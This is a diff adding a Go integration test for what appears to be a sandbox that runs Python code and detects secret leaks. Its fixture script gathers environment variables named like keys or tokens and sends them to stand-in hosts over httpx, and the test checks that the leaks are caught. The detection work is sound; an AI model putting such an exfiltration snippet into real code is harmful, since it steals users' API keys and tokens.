@@ -424,6 +424,30 @@ print("status", r.status_code)
 	}
 }
 
+// TestHttpxShimIntegration: the httpx stand-in, sync and async, over HTTPS
+// through the interception CA.
+func TestHttpxShimIntegration(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "greet.py"), []byte(`import asyncio, os, httpx
+secrets = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
+r = httpx.post("https://collect.shim-test.example/c", json={"s": secrets})
+print("status", r.status_code, r.json())
+async def main():
+    async with httpx.AsyncClient(base_url="https://async.shim-test.example") as c:
+        return await c.get("/x", params={"k": os.environ["SLACK_BOT_TOKEN"]})
+print("async", asyncio.run(main()).status_code)
+`), 0o644)
+	r := MustDetonate(t, New(), dir)
+	if out := r.Entries[0].Output; !strings.Contains(out, "status 200 {}") || !strings.Contains(out, "async 200") {
+		t.Errorf("output: %s", out)
+	}
+	for _, c := range []string{"ANTHROPIC_API_KEY", "GITHUB_TOKEN", "SLACK_BOT_TOKEN"} {
+		if !hasLeak(r, c, "http") {
+			t.Errorf("%s: leaks %+v", c, r.Leaks)
+		}
+	}
+}
+
 // TestCPULimitIntegration: a busy loop is stopped by RLIMIT_CPU, not the wall.
 func TestCPULimitIntegration(t *testing.T) {
 	dir := t.TempDir()
